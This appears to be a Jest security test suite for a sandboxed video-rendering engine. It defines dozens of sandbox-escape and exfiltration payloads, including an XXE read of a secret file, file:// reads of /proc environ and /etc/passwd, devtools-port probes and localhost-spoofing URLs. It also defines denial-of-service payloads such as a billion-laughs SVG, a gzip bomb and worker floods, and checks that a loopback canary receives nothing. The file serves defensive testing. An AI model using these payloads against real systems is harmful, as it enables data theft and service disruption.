import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { AppError } from '../../contract/errors.ts';
import { limits } from '../../contract/limits.ts';
import { openStage } from '../../engine/stage/open-stage.ts';
import { filmOf, pixelsOf, testBundle } from '../engine/stage/film.ts';
import { type Canary, canaryColour, canaryWords, loopbackCanary } from './loopback-canary.ts';
import { descendants, isBrowser, survivors } from './process-tree.ts';
import { watchedMemory } from './watched-memory.ts';

let stage: Awaited<ReturnType<typeof testBundle>>;
let canary: Canary;
let folder: string;
beforeAll(async () => {
  stage = await testBundle();
  canary = await loopbackCanary();
  folder = await mkdtemp(join(tmpdir(), 'framewright-canary-'));
  await writeFile(join(folder, 'secret.txt'), canaryWords);
});
afterAll(async () => {
  await canary?.[Symbol.asyncDispose]();
  await rm(folder, { recursive: true, force: true });
  await stage.cleanUp();
});

/** Statements with `web`, `place` and `file` in reach; `into(html)` puts elements into the page, `tell` writes words onto it. */
const waysOut: Record<string, string> = {
  'a transport beside the web': `const t = new (globalThis as any).WebTransport(web.replace('http', 'https')); t.ready.then(() => tell('ready'));`,
  'a worker that others share': `new SharedWorker(URL.createObjectURL(new Blob(['onconnect=()=>fetch(' + JSON.stringify(web) + ')'])));`,
  'a worker that serves': `navigator.serviceWorker?.register('/stage.js').then((r) => tell(r.scope)); navigator.serviceWorker?.register(URL.createObjectURL(new Blob(['fetch(1)'])));`,
  'worklets of sound and paint': `new AudioContext().audioWorklet.addModule(web); (CSS as any).paintWorklet?.addModule(web);`,
  'objects and embedded things': `into('<object data="' + web + '"></object><embed src="' + web + '"><fencedframe></fencedframe><portal src="' + web + '"></portal>');`,
  'pictures within drawings': `into('<svg width=9 height=9><image href="' + web + '" width=9 height=9 /><use href="' + web + '#x" /><filter id=q><feImage href="' + web + '" /></filter><rect filter="url(#q)" width=9 height=9 /></svg>');`,
  'addresses in style': `into('<style>@font-face{font-family:q;src:url(' + web + ')} #q{font-family:q;cursor:url(' + web + '),auto;mask-image:url(' + web + ');border-image:url(' + web + ') 1;list-style:url(' + web + ');content:image-set(url(' + web + ') 1x)}</style><li id=q>q</li>');`,
  'a typeface from code': `new FontFace('q', 'url(' + web + ')').load().then(() => tell('loaded'));`,
  'what goes with a film': `into('<video poster="' + web + '" autoplay><source src="' + web + '"><track default src="' + web + '"></video><audio autoplay src="' + web + '"></audio>');`,
  'links that load ahead': `for (const rel of ['manifest', 'icon', 'modulepreload', 'prerender', 'preload', 'compression-dictionary']) into('<link rel="' + rel + '" as="script" href="' + web + '">');`,
  'rules of speculation': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [web] }], prefetch: [{ source: 'list', urls: [web] }] }); document.head.append(s);`,
  'a page that is refreshed': `into('<meta http-equiv="refresh" content="0;url=' + web + '">');`,
  'reports of what is forbidden': `into('<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ' + web + '">'); new Image().src = '/x.png'; (globalThis as any).fetchLater?.(web);`,
  'another map of imports': `const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { q: web } }); document.head.append(s); new Function('return import("q")')().then(() => tell('imported'));`,
  'questions that wait': `const x = new XMLHttpRequest(); x.open('GET', web, false); x.send(); tell(x.responseText);`,
  'another base': `into('<base href="' + web + '">'); fetch('x').then((r) => r.text()).then(tell); new Image().src = 'y.png';`,
  'a document in a document': `into('<iframe srcdoc="&lt;base href=' + web + '&gt;&lt;img src=x&gt;&lt;script src=y&gt;&lt;/script&gt;"></iframe>');`,
  'a sheet that transforms': `const d = new DOMParser().parseFromString('<?xml version="1.0"?><!DOCTYPE q [<!ENTITY e SYSTEM "' + 'file:' + '//' + file + '">]><q>&e;</q>', 'text/xml'); tell(d.documentElement.textContent);`,
  'a relay for calls': `const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + place + '?transport=tcp', username: 'a', credential: 'b' }], iceTransportPolicy: 'relay' }); p.createDataChannel('q'); p.createOffer().then((o) => p.setLocalDescription(o));`,
  'a caller at a known place': `const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()]; a.createDataChannel('q'); a.createOffer().then(async (o) => { await a.setLocalDescription(o); await b.setRemoteDescription(o); const n = await b.createAnswer(); await b.setLocalDescription(n); await a.setRemoteDescription(n); const [host, port] = place.split(':'); for (const kind of ['udp', 'tcp']) await a.addIceCandidate({ candidate: 'candidate:1 1 ' + kind + ' 2122260223 ' + host + ' ' + port + ' typ host' + (kind === 'tcp' ? ' tcptype passive' : ''), sdpMid: '0' }); });`,
  'sockets of the machine': `const g = globalThis as any; try { new g.TCPSocket(place.split(':')[0], Number(place.split(':')[1])); } catch {} try { new g.UDPSocket({ remoteAddress: '127.0.0.1', remotePort: Number(place.split(':')[1]) }); } catch {} (navigator as any).serial?.requestPort(); (navigator as any).usb?.requestDevice({ filters: [] });`,
  'who one is and what one pays': `(navigator.credentials as any)?.get({ identity: { providers: [{ configURL: web, clientId: 'q' }] } }); new (globalThis as any).PaymentRequest([{ supportedMethods: web }], { total: { label: 'q', amount: { currency: 'USD', value: '1' } } }).canMakePayment();`,
  'a second screen': `new (globalThis as any).PresentationRequest([web]).start(); (navigator as any).share?.({ url: web }); Notification.requestPermission();`,
  advertising: `(navigator as any).joinAdInterestGroup?.({ owner: location.origin, name: 'q', updateURL: web, biddingLogicURL: web }, 9e3); into('<img attributionsrc="' + web + '" src="' + web + '">'); (globalThis as any).sharedStorage?.worklet?.addModule(web);`,
  'files of the processes': `for (const f of ['/proc/self/environ', '/proc/1/environ', '/proc/1/cmdline', file]) { into('<iframe src="' + 'file:' + '//' + f + '"></iframe><object data="' + 'file:' + '//' + f + '"></object>'); fetch('file:' + '//' + f).then((r) => r.text()).then(tell); }`,
  'the tools of developers': `for (const port of [9222, 9229, Number(place.split(':')[1])]) { try { new WebSocket('ws://127.0.0.1:' + port + '/devtools/browser'); } catch {} } for (const scheme of ['view-source:', 'devtools:', 'filesystem:', 'blob:']) open(scheme + '//' + web);`,
  'names looked up ahead': `for (const rel of ['preconnect', 'dns-prefetch', 'stylesheet', 'import', 'search', 'amphtml']) into('<link rel="' + rel + '" href="' + web + '">'); into('<meta http-equiv="x-dns-prefetch-control" content="on"><a href="' + web + '">q</a>');`,
  'other spellings of this machine': `const port = place.split(':')[1]; for (const host of ['127.1', '0x7f.1', '2130706433', '017700000001', '0', '[::1]', '[::ffff:127.0.0.1]', 'localhost', 'localhost.', 'a.localhost', '127.0.0.1.nip.io', '\\u2460\\u2461\\u2466.0.0.1']) { for (const scheme of ['http', 'HTTPS', 'ws', 'ftp']) { const to = scheme + '://' + host + ':' + port + '/'; new Image().src = to; into('<iframe src="' + to + '"></iframe>'); try { new WebSocket(to); } catch {} fetch(to, { mode: 'no-cors' }).catch(() => 0); } }`,
  'addresses that look like the stage': `const own = location.host; for (const to of ['https://' + own + '@' + place + '/', 'https://' + own + ':' + place.split(':')[1] + '/', 'https://' + own + './', '//' + place + '/stage/kit.js', 'https:/\\\\' + place, own + '\\\\@' + place]) { new Image().src = to; const s = document.createElement('script'); s.src = to; document.head.append(s); try { location.assign(to); } catch {} }`,
  'old words of the language of pages': `into('<table background="' + web + '"><td background="' + web + '"></table><input type=image src="' + web + '"><img lowsrc="' + web + '" dynsrc="' + web + '" longdesc="' + web + '"><button formaction="' + web + '">q</button><applet code="' + web + '"></applet><frameset><frame src="' + web + '"></frameset><bgsound src="' + web + '"><svg><script href="' + web + '"></' + 'script></svg>'); document.body.setAttribute('background', web); document.documentElement.setAttribute('manifest', web);`,
  'a film of the screen': `const d = navigator.mediaDevices as any; for (const ask of ['getDisplayMedia', 'getUserMedia', 'enumerateDevices']) d?.[ask]?.({ video: true, audio: true }).then((s: unknown) => tell(JSON.stringify(s))).catch(() => 0); (globalThis as any).queryLocalFonts?.().then((f: unknown[]) => tell('fonts ' + f.length)).catch(() => 0); (navigator as any).clipboard?.readText().then(tell).catch(() => 0);`,
  'a way that is taken over': `const n = (globalThis as any).navigation; n?.addEventListener('navigate', (e: any) => e.canIntercept && e.intercept({ handler: () => new Promise(() => 0) })); n?.navigate(web); const d = n?.navigate('data:text/html,<img src=' + web + '>'); d?.finished?.catch(() => 0); d?.committed?.catch(() => 0); open('about:blank')?.document.write('<img src="' + web + '"><script>fetch("' + web + '")</' + 'script>');`,
  'what the browser keeps for its makers': `const g = globalThis as any; for (const key of Reflect.ownKeys(g)) { if (/cdc|puppeteer|devtools|chrome|binding/i.test(String(key))) tell('found ' + String(key)); } for (const to of ['chrome://version', 'chrome://net-export', 'chrome-untrusted://x', 'about:srcdoc', 'view-source:file:///etc/passwd', 'devtools://devtools/bundled/inspector.html']) into('<iframe src="' + to + '"></iframe>');`,
};

/** Statements that stall, flood or fill; `scene` follows each. */
const waysToStall: Record<string, string> = {
  'threads without number': `for (let i = 0; i < 2000; i++) new Worker(URL.createObjectURL(new Blob(['for(;;);'])));`,
  'rooms with walls of their own': `for (let i = 0; i < 300; i++) { const f = document.createElement('iframe'); f.sandbox.add('allow-scripts'); f.srcdoc = '<script>for(;;);</' + 'script>'; document.body.append(f); }`,
  'a disk of its own': `navigator.storage.getDirectory().then(async (d) => { const w = await (await d.getFileHandle('q', { create: true })).createWritable(); for (;;) await w.write(new Uint8Array(1 << 26)); });`,
  'a cache of answers': `caches.open('q').then(async (c) => { for (let i = 0; ; i++) await c.put('/' + i, new Response(new Uint8Array(1 << 26))); });`,
  'a bomb of zeros': `const s = new CompressionStream('gzip'); const w = s.writable.getWriter(); (async () => { for (let i = 0; i < 4000; i++) await w.write(new Uint8Array(1 << 22)); })(); new Response(s.readable.pipeThrough(new DecompressionStream('gzip'))).arrayBuffer();`,
  'coders of films': `const g = globalThis as any; for (let i = 0; i < 64; i++) { const e = new g.VideoEncoder({ output() {}, error() {} }); e.configure({ codec: 'vp8', width: 4096, height: 4096 }); const c = new OffscreenCanvas(4096, 4096); c.getContext('2d'); for (let k = 0; k < 20; k++) e.encode(new g.VideoFrame(c, { timestamp: k })); }`,
  'something thrown that cannot be read': `throw { get message() { for (;;); }, get stack() { for (;;); }, toString() { for (;;); } };`,
  'something thrown that is too long': `const e = new Error('\\u001b[31m\\u0000' + 'x'.repeat(1 << 27)); e.stack = 'y'.repeat(1 << 27); throw e;`,
  'questions to a person': `alert(1); confirm('q'); prompt('q'); print(); onbeforeunload = () => 'stay'; location.reload();`,
  'a way back and forth': `setInterval(() => { history.back(); history.forward(); location.hash = String(Math.random()); close(); stop(); });`,
  'a name of megabytes': `document.title = 'x'.repeat(1 << 27); console.log('x'.repeat(1 << 27)); name = 'x'.repeat(1 << 27);`,
  'a stack of all calls': `Error.stackTraceLimit = Infinity; (Error as any).prepareStackTrace = () => { for (;;); }; (function deep(n: number): never { if (n > 8000) throw new Error('deep'); return deep(n + 1); })(0);`,
  'styles that ask for themselves': `document.body.insertAdjacentHTML('beforeend', '<style>:has(:has(*) *) *:nth-child(7n+3 of :has(~ *)) { color: red }</style>' + '<div>'.repeat(400) + '<i></i>'.repeat(20000)); for (let i = 0; i < 1e4; i++) { document.body.className = 'q' + i; document.body.offsetTop; }`,
  'a size that answers itself': `const d = document.createElement('div'); document.body.append(d); new ResizeObserver(() => { d.style.width = Math.random() * 1e7 + 'px'; d.textContent += 'x'.repeat(1e5); }).observe(d);`,
  'locks that nobody opens': `navigator.locks.request('q', () => new Promise(() => 0)); navigator.locks.request('q', { steal: true }, () => new Promise(() => 0)); const { port1, port2 } = new MessageChannel(); port1.onmessage = () => { port2.postMessage(new ArrayBuffer(1 << 20)); port2.postMessage(0); }; port2.postMessage(0);`,
  'rules of chance without end': `const spin = () => { crypto.getRandomValues(new Uint8Array(65536)); queueMicrotask(spin); }; spin();`,
  'a flood of questions for own files': `const urls = ['/stage/kit.js', '/stage/page.js', '/fonts.css', ...[...document.fonts].map(() => '/fonts.css')]; for (let i = 0; i < 30000; i++) { new Image().src = urls[i % urls.length] + '?' + i; }`,
  'typefaces over and over': `const urls = [...document.styleSheets].flatMap((s) => { try { return [...s.cssRules]; } catch { return []; } }).map((r) => r.cssText.split('url("')[1]?.split('"')[0]).filter(Boolean); for (let i = 0; i < 20000; i++) new FontFace('q' + i, 'url(' + urls[i % urls.length] + '?' + i + ')').load().catch(() => 0);`,
  'workers of own files': `for (let i = 0; i < 3000; i++) new Worker('/stage/kit.js?' + i, { type: 'module' });`,
  'a change of views that never comes': `for (let i = 0; i < 50; i++) { const t = (document as any).startViewTransition(() => new Promise(() => 0)); for (const p of [t.ready, t.finished, t.updateCallbackDone]) p.catch(() => 0); }`,
  'a drawing that laughs': `const lol = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' + [...'bcdefghij'].map((n, i) => '<!ENTITY ' + n + ' "' + ('&' + 'abcdefghij'[i] + ';').repeat(10) + '">').join('') + ']><svg xmlns="http' + '://www.w3.org/2000/svg"><text>&j;</text></svg>'; for (let i = 0; i < 20; i++) { const im = new Image(); im.src = 'data:image/svg+xml,' + encodeURIComponent(lol); document.body.append(im); } new DOMParser().parseFromString(lol, 'text/xml');`,
  'a drawing of drawings': `let g = '<g id="g0"><rect width="9" height="9"/></g>'; for (let i = 1; i < 12; i++) g += '<g id="g' + i + '">' + ('<use href="#g' + (i - 1) + '"/>').repeat(10) + '</g>'; document.body.insertAdjacentHTML('beforeend', '<svg width="9" height="9">' + g + '</svg>');`,
  'a style that doubles': `let css = ':root{--v0:' + 'x'.repeat(1000); for (let i = 1; i < 60; i++) css += ';--v' + i + ':var(--v' + (i - 1) + ')var(--v' + (i - 1) + ')'; document.body.insertAdjacentHTML('beforeend', '<style>' + css + '} p::after{content:var(--v59);width:var(--v59)}</style>');`,
  'columns within columns': `document.body.insertAdjacentHTML('beforeend', '<div style="columns:1000;height:1px">'.repeat(30) + 'word '.repeat(2e4)); document.body.insertAdjacentHTML('beforeend', '<div style="display:grid;grid-template:repeat(30000,1px)/repeat(30000,1px)">' + '<i></i>'.repeat(1e4) + '</div><table>' + '<tr><td rowspan=65534 colspan=1000>q'.repeat(300) + '</table>');`,
  'layers of their own': `document.body.insertAdjacentHTML('beforeend', '<div style="position:fixed;inset:-4000px;will-change:transform;backdrop-filter:blur(40px);mix-blend-mode:difference">q</div>'.repeat(2000));`,
  'a word of a million marks': `document.body.insertAdjacentHTML('beforeend', '<p style="font-size:40px;text-wrap:balance;hyphens:auto">' + 'a' + '\\u0301'.repeat(1e6) + '\\u202e\\u2067'.repeat(1e5) + '\\u{1F468}\\u200d'.repeat(1e5) + '</p><textarea rows=9>' + 'x'.repeat(2e7) + '</textarea>');`,
  'a typeface that swells': `for (let i = 0; i < 40; i++) new FontFace('w' + i, Uint8Array.from({ length: 4e6 }, (_, k) => [0x77, 0x4f, 0x46, 0x32, 0, 1, 0, 0, 0xff, 0xff][k] ?? k & 255)).load().catch(() => 0);`,
  'languages of numbers and words': `for (;;) { new Intl.DateTimeFormat('en', { calendar: 'chinese', dateStyle: 'full' }).formatRange(-8e14, 8e14); new Intl.Segmenter('th', { granularity: 'word' }).segment('\\u0e01'.repeat(1e6)).containing(9); 'x'.repeat(1e6).normalize('NFKD').localeCompare('y', 'zh'); }`,
  'things saved without end': `for (let i = 0; i < 2000; i++) { const a = document.createElement('a'); a.download = '../../../../etc/q' + i; a.href = URL.createObjectURL(new Blob([new Uint8Array(1 << 20)])); a.click(); } (globalThis as any).showSaveFilePicker?.().catch(() => 0);`,
  'a report that is too long to read': `for (let i = 0; i < 60000; i++) { const s = document.createElement('span'); s.textContent = 'word ' + i + 'x'.repeat(2000); document.getElementById('film')?.append(s); }`,
};

const reaching = (statements: string) => `
import { useEffect, useState } from 'react';
import { AbsoluteFill, continueRender, delayRender } from 'remotion';
const place = '127.0.0.1:${canary.port}';
const web = 'http' + '://' + place + '/';
const file = ${JSON.stringify(join(folder, 'secret.txt'))};
export default function Scene() {
  const [said, say] = useState('');
  const [handle] = useState(() => delayRender('trying'));
  useEffect(() => {
    const tell = (what: unknown) => say((before) => before + ' ' + String(what));
    const into = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
    addEventListener('unhandledrejection', (event) => event.preventDefault());
    const attempt = async () => { ${statements} };
    attempt().catch(() => 0);
    setTimeout(() => continueRender(handle), 300);
  }, []);
  return <AbsoluteFill style={{ fontSize: 20 }}>tried {said}</AbsoluteFill>;
}`;

const browsers = () =>
  descendants()
    .filter(isBrowser)
    .map(({ pid }) => pid);

/** Shows a scene: a picture and all that was told of it, or the error of ours that ended it, in time and with no process left. */
async function shown(code: string): Promise<{ picture: Buffer | null; told: string }> {
  const before = browsers();
  const started = performance.now();
  const memory = watchedMemory();
  const outcome = await (async () => {
    await using film = await openStage({ bundle: stage.bundle, ...(await filmOf([{ code }])) });
    const picture = await film.capture(3, { format: 'png' });
    return { picture, told: JSON.stringify([(await film.measure(3)).texts, film.faults()]) };
  })().catch((error: unknown) => {
    expect(error).toBeInstanceOf(AppError);
    const { message, options } = error as AppError;
    return { picture: null, told: JSON.stringify([message, options.detail, options.members]) };
  });
  // Opening, showing and measuring may each take as long as a scene may.
  expect((performance.now() - started) / 1000).toBeLessThan(8 * limits.sceneReadySeconds);
  expect(await survivors(browsers().filter((pid) => !before.includes(pid)))).toEqual([]);
  expect(memory.growthMiB()).toBeLessThan(mostGrowthMiB);
  return outcome;
}

/** What a page asks for and tells passes through this process, as it does through a worker's. */
const mostGrowthMiB = 1024;

test.each(Object.entries(waysOut))(
  '%s: nothing is reached, and nothing of the machine is shown or told',
  async (_what, statements) => {
    const { picture, told } = await shown(reaching(statements));
    expect(canary.hits()).toBe(0);
    for (const secret of [canaryWords, 'root:x:0', 'PATH=', 'DATABASE_URL']) expect(told).not.toContain(secret);
    if (picture) expect(holdsCanary(await pixelsOf(picture))).toBe(false);
  },
  120_000,
);

test.each(Object.entries(waysToStall))(
  '%s: a verdict or a picture in time, no process, a short report, and the next film is shown',
  async (_what, statements) => {
    const { told } = await shown(`${statements} export default () => <p>here</p>;`);
    expect(told.length).toBeLessThan(100_000);
    expect((await shown('export default () => <p>next</p>;')).picture).not.toBeNull();
  },
  120_000,
);

function holdsCanary(pixels: Buffer): boolean {
  for (let index = 0; index < pixels.length; index += 3) {
    if (canaryColour.every((value, channel) => Math.abs((pixels[index + channel] ?? 0) - value) < 8)) return true;
  }
  return false;
}
